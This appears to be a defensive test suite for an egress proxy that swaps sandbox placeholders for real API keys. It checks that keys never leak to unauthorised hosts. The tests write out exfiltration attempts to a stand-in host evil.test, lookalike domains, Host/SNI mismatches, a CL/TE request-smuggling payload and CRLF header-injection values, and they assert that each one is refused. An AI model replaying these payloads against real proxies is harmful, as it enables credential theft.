/**
 * DESIGN.md §2 invariants under attack: each case is a sentence, sends a real request through the
 * proxy carrying a real placeholder, and asserts that the canary value never reached any
 * upstream and that the answer names the reason.
 */
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';
import https from 'node:https';
import type { AddressInfo } from 'node:net';
import { ProxyAgent, request } from 'undici';
import { auditRows, canary, egressOf, rawThroughTunnel, startFixture, viaProxy, type Fixture, type Sandbox } from './fixture.js';
import type { EchoUpstream } from '../helpers/upstream.js';

let f: Fixture;
let up: EchoUpstream; // the allowed upstream (TLS)
let other: EchoUpstream; // same names, another port
let plain: EchoUpstream; // plain http
let redirector: EchoUpstream;
let untrusted: EchoUpstream;
let misnamed: EchoUpstream;
let sb: Sandbox; // holds OPENAI_API_KEY (api.openai.com) and WILD_KEY (*.openai.com)
let sb2: Sandbox; // another sandbox with its own binding
let limited: Sandbox; // egress policy: api.openai.com only
const VALUE = canary();
const WILD = canary();
const OTHER = canary();

const all = (): EchoUpstream[] => [up, other, plain, redirector, untrusted, misnamed];
/** True when no upstream ever received any of the canaries, in any part of any request. */
function noCanaryUpstream(): boolean {
  return all().every((u) => !JSON.stringify(u.requests).match(/CANARY-proxy-/));
}
const errorOf = (body: string): { code: string; message: string } => JSON.parse(body).error;

before(async () => {
  f = await startFixture();
  up = await f.startUpstream({ echoKeyBack: true });
  other = await f.startUpstream();
  plain = await f.startUpstream({ tls: undefined });
  misnamed = await f.startUpstream({ tls: await f.pki.issue(['unrelated.test']) });
  untrusted = await f.startUpstream({ tls: f.pki.untrusted });
  redirector = await f.startUpstream({ redirectTo: `https://evil.test:${other.port}/steal` });
  const hostsFor = (h: string) => [up, other, plain, redirector, untrusted, misnamed].map((u) => `${h}:${u.port}`);
  await f.secret({ name: 'openai', value: VALUE, provider: 'openai', hosts: hostsFor('api.openai.com').filter((h) => !h.endsWith(`:${other.port}`)) });
  await f.secret({ name: 'wild', value: WILD, hosts: hostsFor('*.openai.com') });
  await f.secret({ name: 'other', value: OTHER, hosts: hostsFor('api.openai.com') });
  sb = await f.sandbox({ secrets: { OPENAI_API_KEY: 'openai', WILD_KEY: 'wild' } });
  sb2 = await f.sandbox({ secrets: { OTHER_KEY: 'other' } });
  limited = await f.sandbox({ secrets: { OPENAI_API_KEY: 'openai' }, egress: { allowHosts: [`api.openai.com:${up.port}`] } });
});

after(async () => {
  await f?.close();
});

const bearer = (token: string) => ({ authorization: `Bearer ${token}` });

describe('attacks: the real value never reaches the wrong place', () => {
  test('the allowed host gets the value, and the echoed key comes back redacted (control case)', async () => {
    const r = await viaProxy(sb, `https://api.openai.com:${up.port}/v1/models`, { headers: bearer(sb.env.OPENAI_API_KEY!) });
    assert.equal(r.status, 200);
    assert.equal(up.requests.at(-1)?.headers.authorization, `Bearer ${VALUE}`);
    assert.ok(!r.body.includes(VALUE) && !String(r.headers['x-echo-authorization']).includes(VALUE));
    assert.ok(r.body.includes(sb.env.OPENAI_API_KEY!), 'the placeholder is put back');
    up.requests.length = 0;
  });

  const blocked: Array<[string, () => Promise<{ status: number; body: string }>, number, string, RegExp]> = [
    ['a lookalike suffix host api.openai.com.evil.test is not api.openai.com', () => viaProxy(sb, `https://api.openai.com.evil.test:${up.port}/`, { headers: bearer(sb.env.OPENAI_API_KEY!) }), 403, 'placeholder_blocked', /api\.openai\.com\.evil\.test.*matches none/],
    ['a lookalike prefix host evilapi.openai.com is not api.openai.com', () => viaProxy(sb, `https://evilapi.openai.com:${up.port}/`, { headers: bearer(sb.env.OPENAI_API_KEY!) }), 403, 'placeholder_blocked', /evilapi\.openai\.com/],
    ['evilopenai.com does not match the wildcard *.openai.com', () => viaProxy(sb, `https://evilopenai.com:${up.port}/`, { headers: bearer(sb.env.WILD_KEY!) }), 403, 'placeholder_blocked', /evilopenai\.com/],
    ['api.openai.com.evil.test does not match the wildcard *.openai.com', () => viaProxy(sb, `https://api.openai.com.evil.test:${up.port}/`, { headers: bearer(sb.env.WILD_KEY!) }), 403, 'placeholder_blocked', /matches none/],
    ['the right host on a port the secret does not list is refused', () => viaProxy(sb, `https://api.openai.com:${other.port}/`, { headers: bearer(sb.env.OPENAI_API_KEY!) }), 403, 'placeholder_blocked', /allowed only on port/],
    ['plain http through CONNECT is refused without allowInsecureHttp', () => viaProxy(sb, `http://api.openai.com:${plain.port}/`, { headers: bearer(sb.env.OPENAI_API_KEY!) }), 403, 'placeholder_blocked', /plain http/],
    ['plain http as an absolute-form request is refused without allowInsecureHttp', () => viaProxy(sb, `http://api.openai.com:${plain.port}/`, { headers: bearer(sb.env.OPENAI_API_KEY!), proxyTunnel: false }), 403, 'placeholder_blocked', /plain http/],
    ['the placeholder of another sandbox is refused', () => viaProxy(sb, `https://api.openai.com:${up.port}/`, { headers: bearer(sb2.env.OTHER_KEY!) }), 403, 'placeholder_blocked', /another sandbox/],
    ['a placeholder in the URL path to a disallowed host is refused', () => viaProxy(sb, `https://evil.test:${other.port}/v1/${sb.env.OPENAI_API_KEY}/x`), 403, 'placeholder_blocked', /evil\.test/],
    ['a percent-encoded placeholder in the query to a disallowed host is refused', () => viaProxy(sb, `https://evil.test:${other.port}/?key=${[...sb.env.OPENAI_API_KEY!].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('')}`), 403, 'placeholder_blocked', /evil\.test/],
    ['a placeholder inside Basic credentials to a disallowed host is refused', () => viaProxy(sb, `https://evil.test:${other.port}/`, { headers: { authorization: `Basic ${Buffer.from(`user:${sb.env.OPENAI_API_KEY}`).toString('base64')}` } }), 403, 'placeholder_blocked', /evil\.test/],
    ['a placeholder in a custom header to a disallowed host is refused', () => viaProxy(sb, `https://evil.test:${other.port}/`, { headers: { 'x-smuggle': `a ${sb.env.OPENAI_API_KEY} b` } }), 403, 'placeholder_blocked', /evil\.test/],
    ["a host outside the sandbox's egress policy is refused even without a placeholder", () => viaProxy(limited, `https://other.example.test:${other.port}/`), 403, 'egress_denied', /egress policy/],
    ['an upstream whose certificate no trusted CA signed gets nothing', () => viaProxy(sb, `https://api.openai.com:${untrusted.port}/`, { headers: bearer(sb.env.OPENAI_API_KEY!) }), 502, 'upstream_tls_failed', /certificate/],
    ['an upstream whose certificate names another host gets nothing', () => viaProxy(sb, `https://api.openai.com:${misnamed.port}/`, { headers: bearer(sb.env.OPENAI_API_KEY!) }), 502, 'upstream_tls_failed', /certificate/],
  ];
  for (const [name, send, status, code, reason] of blocked) {
    test(name, async () => {
      const r = await send();
      assert.equal(r.status, status, r.body);
      const e = errorOf(r.body);
      assert.equal(e.code, code);
      assert.match(e.message, reason);
      assert.ok(!r.body.includes('stn_ph_') || !/stn_ph_[0-9A-Za-z]{46}/.test(r.body), 'no full placeholder in the error');
      assert.ok(noCanaryUpstream(), 'no upstream received a value');
    });
  }

  test('an egress rule keeps an explicit :443 when stored: without a port it also opens port 80, with :443 it does not', async () => {
    const box = await f.sandbox({ egress: { allowHosts: ['API.openai.com:443', 'other.example.test.'] } });
    const got = await f.server.api('GET', `/v1/sandboxes/${box.id}`);
    assert.deepEqual(got.body.egress, { allowHosts: ['api.openai.com:443', 'other.example.test'] });
  });

  test('CONNECT to the allowed host with a Host header of another host is misdirected (421)', async () => {
    const r = await rawThroughTunnel({
      proxyUrl: sb.proxyUrl, token: sb.token, authority: `api.openai.com:${up.port}`, servername: 'api.openai.com', ca: sb.caPem,
      request: `GET / HTTP/1.1\r\nHost: evil.test:${other.port}\r\nAuthorization: Bearer ${sb.env.OPENAI_API_KEY}\r\nConnection: close\r\n\r\n`,
    });
    assert.ok('status' in r);
    assert.equal(r.status, 421);
    assert.equal(errorOf(r.body).code, 'misdirected_request');
    assert.ok(noCanaryUpstream());
  });

  test('a Host header that differs only by port from the tunnel is misdirected too', async () => {
    const r = await rawThroughTunnel({
      proxyUrl: sb.proxyUrl, token: sb.token, authority: `api.openai.com:${up.port}`, servername: 'api.openai.com', ca: sb.caPem,
      request: `GET / HTTP/1.1\r\nHost: api.openai.com:${other.port}\r\nAuthorization: Bearer ${sb.env.OPENAI_API_KEY}\r\nConnection: close\r\n\r\n`,
    });
    assert.ok('status' in r && r.status === 421);
    assert.ok(noCanaryUpstream());
  });

  test('an absolute-form URL inside the tunnel naming another host is misdirected', async () => {
    const r = await rawThroughTunnel({
      proxyUrl: sb.proxyUrl, token: sb.token, authority: `api.openai.com:${up.port}`, servername: 'api.openai.com', ca: sb.caPem,
      request: `GET https://evil.test:${other.port}/ HTTP/1.1\r\nHost: api.openai.com:${up.port}\r\nAuthorization: Bearer ${sb.env.OPENAI_API_KEY}\r\nConnection: close\r\n\r\n`,
    });
    assert.ok('status' in r && r.status === 421);
    assert.ok(noCanaryUpstream());
  });

  test('a TLS server name (SNI) that differs from the CONNECT authority is a destination mismatch (400)', async () => {
    const r = await rawThroughTunnel({
      proxyUrl: sb.proxyUrl, token: sb.token, authority: `api.openai.com:${up.port}`, servername: 'evil.test', ca: sb.caPem,
      request: `GET / HTTP/1.1\r\nHost: api.openai.com:${up.port}\r\nAuthorization: Bearer ${sb.env.OPENAI_API_KEY}\r\nConnection: close\r\n\r\n`,
    });
    assert.ok('status' in r);
    assert.equal(r.status, 400);
    assert.equal(errorOf(r.body).code, 'destination_mismatch');
    assert.match(errorOf(r.body).message, /evil\.test/);
    assert.ok(noCanaryUpstream());
  });

  test('a TLS client without SNI is held to the CONNECT authority', async () => {
    const ok = await rawThroughTunnel({
      proxyUrl: sb.proxyUrl, token: sb.token, authority: `api.openai.com:${up.port}`, servername: null, ca: sb.caPem,
      request: `GET /nosni HTTP/1.1\r\nHost: api.openai.com:${up.port}\r\nAuthorization: Bearer ${sb.env.OPENAI_API_KEY}\r\nConnection: close\r\n\r\n`,
    });
    assert.ok('status' in ok && ok.status === 200);
    assert.ok(!ok.body.includes(VALUE));
    const bad = await rawThroughTunnel({
      proxyUrl: sb.proxyUrl, token: sb.token, authority: `api.openai.com:${up.port}`, servername: null, ca: sb.caPem,
      request: `GET / HTTP/1.1\r\nHost: evil.test:${other.port}\r\nAuthorization: Bearer ${sb.env.OPENAI_API_KEY}\r\nConnection: close\r\n\r\n`,
    });
    assert.ok('status' in bad && bad.status === 421);
    up.requests.length = 0;
    assert.ok(noCanaryUpstream());
  });

  test('a redirect to another host is relayed, not followed; the re-issued request is checked again', async () => {
    const first = await viaProxy(sb, `https://api.openai.com:${redirector.port}/redirect`, { headers: bearer(sb.env.OPENAI_API_KEY!) });
    assert.equal(first.status, 302);
    assert.equal(first.headers.location, `https://evil.test:${other.port}/steal`);
    assert.equal(other.requests.length, 0, 'the proxy did not follow the redirect');
    redirector.requests.length = 0; // it legitimately received the value
    const again = await viaProxy(sb, String(first.headers.location), { headers: bearer(sb.env.OPENAI_API_KEY!) });
    assert.equal(again.status, 403);
    assert.equal(errorOf(again.body).code, 'placeholder_blocked');
    assert.ok(noCanaryUpstream());
  });

  test('a request smuggling attempt with both Content-Length and Transfer-Encoding is refused', async () => {
    const r = await rawThroughTunnel({
      proxyUrl: sb.proxyUrl, token: sb.token, authority: `api.openai.com:${up.port}`, servername: 'api.openai.com', ca: sb.caPem,
      request: `POST / HTTP/1.1\r\nHost: api.openai.com:${up.port}\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n0\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: api.openai.com\r\n\r\n`,
    });
    assert.ok('status' in r && r.status === 400);
    assert.ok(!up.requests.some((q) => q.url === '/smuggled'));
  });

  test('a refused placeholder deep inside a streamed (chunked) body stops the upload before it is sent', async () => {
    // A raw upstream that keeps every byte it gets, even of an aborted upload.
    let received = '';
    const sink = https.createServer(f.pki.server, (req, res) => {
      req.on('data', (c: Buffer) => (received += c.toString('latin1')));
      req.on('error', () => {});
      req.on('end', () => res.end('ok'));
    });
    await new Promise<void>((r) => sink.listen(0, '127.0.0.1', r));
    const port = (sink.address() as AddressInfo).port;
    const v = canary();
    await f.secret({ name: 'body-key', value: v, hosts: [`api.openai.com:${up.port}`], bodyPlaceholders: true });
    const box = await f.sandbox({ secrets: { BODY_KEY: 'body-key' } });
    const agent = new ProxyAgent({ uri: box.proxyUrl, requestTls: { ca: box.caPem } });
    async function* body() {
      yield Buffer.from(`{"padding":"${'x'.repeat(200_000)}`);
      await new Promise((r) => setTimeout(r, 20));
      yield Buffer.from(`","key":"${box.env.BODY_KEY}"}`);
    }
    const r = await request(`https://evil.test:${port}/upload`, { dispatcher: agent, method: 'POST', headers: { 'content-type': 'application/json' }, body: body() }).catch((e: Error) => e);
    await agent.close();
    sink.close();
    if (!(r instanceof Error)) {
      assert.equal(r.statusCode, 403);
      assert.equal(JSON.parse(await r.body.text()).error.code, 'placeholder_blocked');
    }
    assert.ok(!received.includes('stn_ph_') && !received.includes(v), 'neither the placeholder nor the value left the proxy');
    await f.flush();
    const trip = (await auditRows(f, 'proxy.tripwire')).find((t) => t.details.binding === 'BODY_KEY');
    assert.ok(trip, 'tripwire row for the body placeholder');
  });

  test('values with CR, LF or NUL are refused when stored, so no header can be split', async () => {
    for (const value of ['abc\r\nX-Injected: 1', 'abc\ndef', 'abc\0def']) {
      const r = await f.server.api('POST', '/v1/secrets', { name: `crlf-${Math.random().toString(36).slice(2)}`, value, hosts: ['api.openai.com'] });
      assert.equal(r.status, 400);
      assert.equal(r.body.error.code, 'invalid_value');
      assert.ok(!JSON.stringify(r.body).includes('X-Injected'));
    }
  });

  test('a missing or wrong proxy credential is answered 407 with a Basic challenge', async () => {
    const none = await rawThroughTunnel({ proxyUrl: sb.proxyUrl, token: '', authority: `api.openai.com:${up.port}`, request: '' });
    assert.ok('refused' in none && none.refused === 407);
    const forged = `stn_px_${'A'.repeat(46)}`;
    const wrong = await rawThroughTunnel({ proxyUrl: sb.proxyUrl, token: forged, authority: `api.openai.com:${up.port}`, request: '' });
    assert.ok('refused' in wrong && wrong.refused === 407);
    assert.equal(JSON.parse(wrong.body).error.code, 'proxy_auth_required');
  });

  test('a deleted secret stops working on the next request', async () => {
    const s = await f.secret({ name: 'short-lived', value: canary(), hosts: [`api.openai.com:${up.port}`] });
    const box = await f.sandbox({ secrets: { SHORT_KEY: 'short-lived' } });
    const del = await f.server.api('DELETE', `/v1/secrets/${s.id}`);
    assert.equal(del.status, 204);
    const r = await viaProxy(box, `https://api.openai.com:${up.port}/`, { headers: bearer(box.env.SHORT_KEY!) });
    assert.equal(r.status, 403);
    assert.match(errorOf(r.body).message, /no longer resolves/);
    assert.ok(noCanaryUpstream());
  });

  test('the placeholder of a deleted sandbox is refused, and its credential no longer opens tunnels', async () => {
    const box = await f.sandbox({ secrets: { OPENAI_API_KEY: 'openai' } });
    const warm = await viaProxy(box, `https://api.openai.com:${up.port}/`, { headers: bearer(box.env.OPENAI_API_KEY!) });
    assert.equal(warm.status, 200);
    up.requests.length = 0;
    assert.equal((await f.server.api('DELETE', `/v1/sandboxes/${box.id}`)).status, 204);
    const viaOther = await viaProxy(sb, `https://api.openai.com:${up.port}/`, { headers: bearer(box.env.OPENAI_API_KEY!) });
    assert.equal(viaOther.status, 403);
    assert.match(errorOf(viaOther.body).message, /not bound/);
    const own = await rawThroughTunnel({ proxyUrl: box.proxyUrl, token: box.token, authority: `api.openai.com:${up.port}`, request: '' });
    assert.ok('refused' in own && own.refused === 407);
    assert.ok(noCanaryUpstream());
  });

  test('every refusal left a tripwire audit row and a blocked egress event, none holding a value', async () => {
    await f.flush();
    const trips = await auditRows(f, 'proxy.tripwire');
    assert.ok(trips.length >= 10, `tripwire rows: ${trips.length}`);
    assert.ok(trips.some((r) => r.details.check === 'misdirected_request' && r.details.binding === 'OPENAI_API_KEY'), 'a misdirected request with a placeholder is a tripwire');
    assert.ok(trips.some((r) => r.details.check === 'destination_mismatch'), 'an SNI mismatch with a placeholder is a tripwire');
    const t = trips.find((r) => r.details.secret === 'openai' && /evil\.test/.test(r.details.destination));
    assert.ok(t, 'a row names the secret and the destination');
    assert.equal(t.outcome, 'denied');
    assert.equal(t.details.binding, 'OPENAI_API_KEY');
    assert.equal(t.details.sandboxId, sb.id);
    assert.match(t.details.placeholder, /^sk-stn_ph_|^stn_ph_..…$/);
    const events = await egressOf(f, sb.id);
    assert.ok(events.some((e) => e.decision === 'blocked' && e.host === 'evil.test'));
    const everything = JSON.stringify([trips, events, await auditRows(f)]) + f.server.logs();
    for (const v of [VALUE, WILD, OTHER]) assert.ok(!everything.includes(v), 'no value in audit, events or logs');
    assert.ok(!/stn_ph_[0-9A-Za-z]{46}/.test(everything), 'no full placeholder in audit, events or logs');
  });
});
